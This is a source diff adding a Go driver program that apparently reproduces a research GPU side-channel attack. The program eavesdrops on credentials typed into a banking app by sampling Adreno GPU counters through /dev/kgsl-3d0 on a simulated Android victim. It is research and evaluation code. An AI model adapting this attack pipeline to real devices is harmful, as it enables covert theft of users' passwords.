@@ -1,0 +1,156 @@
+// Command attackd demonstrates the end-to-end attack: it simulates a
+// victim device on which a user types a credential into a banking app,
+// then runs the attacking application (counter sampler + device
+// recognition + online inference engine) against the device file and
+// prints what was eavesdropped.
+package main
+
+import (
+	"flag"
+	"fmt"
+	"log"
+	"os"
+
+	"gpuleak/internal/android"
+	"gpuleak/internal/attack"
+	"gpuleak/internal/input"
+	"gpuleak/internal/keyboard"
+	"gpuleak/internal/sim"
+	"gpuleak/internal/stats"
+	"gpuleak/internal/victim"
+)
+
+func main() {
+	log.SetFlags(0)
+	log.SetPrefix("attackd: ")
+
+	device := flag.String("device", "OnePlus 8 Pro", "victim device model")
+	app := flag.String("app", "Chase", "target application")
+	kb := flag.String("keyboard", "gboard", "on-screen keyboard")
+	text := flag.String("text", "hunter2pass", "credential the victim types")
+	volunteer := flag.Int("volunteer", 0, "typing profile 0-4")
+	modelPath := flag.String("model", "", "pretrained model JSON (default: train on the fly)")
+	seed := flag.Int64("seed", 42, "simulation seed")
+	practical := flag.Bool("practical", false, "inject corrections/app switches (§8 behavior)")
+	traceOut := flag.String("trace", "", "write the raw counter trace as CSV")
+	monitor := flag.Bool("monitor", false, "start with the Figure-4 monitoring service: the victim uses another app first, the attack waits for the target launch")
+	flag.Parse()
+
+	dev, ok := android.DeviceByName(*device)
+	if !ok {
+		log.Fatalf("unknown device %q", *device)
+	}
+	layout := keyboard.ByName(*kb)
+	if layout == nil {
+		log.Fatalf("unknown keyboard %q", *kb)
+	}
+	target, ok := android.AppByName(*app)
+	if !ok {
+		log.Fatalf("unknown app %q", *app)
+	}
+	if *volunteer < 0 || *volunteer >= len(input.Volunteers) {
+		log.Fatalf("volunteer must be 0-%d", len(input.Volunteers)-1)
+	}
+
+	cfg := victim.Config{Device: dev, Keyboard: layout, App: target,
+		Seed: *seed, RenderJitter: 0.0001}
+	if *monitor {
+		cfg.PreLaunch = 6 * sim.Second
+	}
+
+	// Offline phase (or load a preloaded model).
+	var m *attack.Model
+	if *modelPath != "" {
+		f, err := os.Open(*modelPath)
+		if err != nil {
+			log.Fatal(err)
+		}
+		m, err = attack.ReadModel(f)
+		f.Close()
+		if err != nil {
+			log.Fatal(err)
+		}
+		log.Printf("loaded model %s (%d keys)", m.Key, len(m.Keys))
+	} else {
+		log.Printf("offline phase: training classifier for %s / %s ...", dev.Name, layout.Name)
+		train := cfg
+		train.RenderJitter = 0
+		var err error
+		m, err = attack.Collect(train, attack.CollectOptions{Repeats: 2})
+		if err != nil {
+			log.Fatal(err)
+		}
+		log.Printf("trained %d key centroids, %d noise signatures", len(m.Keys), len(m.Noise))
+	}
+
+	// Victim session.
+	vol := input.Volunteers[*volunteer]
+	start := 700*sim.Millisecond + cfg.PreLaunch
+	var script input.Script
+	if *practical {
+		script = input.Practical(*text, vol, input.DefaultPracticalOptions(), sim.NewRand(*seed+1), start)
+	} else {
+		script = input.Typing(*text, vol, input.SpeedAny, sim.NewRand(*seed+1), start)
+	}
+	sess := victim.New(cfg)
+	sess.Run(script)
+	log.Printf("victim: %s launches %s, types %d keys (%s profile)",
+		dev.Name, target.Name, script.PressCount(), vol.Name)
+
+	// Online phase.
+	f, err := sess.Open()
+	if err != nil {
+		log.Fatalf("opening /dev/kgsl-3d0: %v", err)
+	}
+	atk := attack.New(m)
+	var res *attack.Result
+	if *monitor {
+		mr, err := atk.MonitorAndEavesdrop(f, 0, sess.End, attack.MonitorOptions{})
+		if err != nil {
+			log.Fatalf("monitoring failed: %v", err)
+		}
+		if !mr.Detected {
+			log.Fatalf("target app launch never detected")
+		}
+		log.Printf("monitor: target launch detected at %v after %d low-duty reads",
+			mr.LaunchDetectedAt, mr.IdleReads)
+		res = mr.Result
+	} else if *traceOut != "" {
+		// Collect explicitly so the raw trace can be archived.
+		smp, err := attack.NewSampler(f, atk.Interval)
+		if err != nil {
+			log.Fatal(err)
+		}
+		tr, err := smp.Collect(0, sess.End)
+		if err != nil {
+			log.Fatal(err)
+		}
+		out, err := os.Create(*traceOut)
+		if err != nil {
+			log.Fatal(err)
+		}
+		if err := tr.WriteCSV(out); err != nil {
+			log.Fatal(err)
+		}
+		out.Close()
+		log.Printf("wrote counter trace to %s (%d samples)", *traceOut, tr.Len())
+		res, err = atk.EavesdropTrace(tr)
+		if err != nil {
+			log.Fatalf("eavesdropping failed: %v", err)
+		}
+	} else {
+		res, err = atk.Eavesdrop(f, 0, sess.End)
+		if err != nil {
+			log.Fatalf("eavesdropping failed: %v", err)
+		}
+	}
+
+	truth := sess.TypedText()
+	fmt.Println()
+	fmt.Printf("  victim typed : %q\n", truth)
+	fmt.Printf("  eavesdropped : %q\n", res.Text)
+	fmt.Printf("  exact match  : %v\n", res.Text == truth)
+	fmt.Printf("  edit distance: %d\n", stats.Levenshtein(res.Text, truth))
+	fmt.Printf("  engine stats : %+v\n", res.Stats)
+	fmt.Printf("  ioctl calls  : %d\n", sess.Device.IoctlCount())
+}
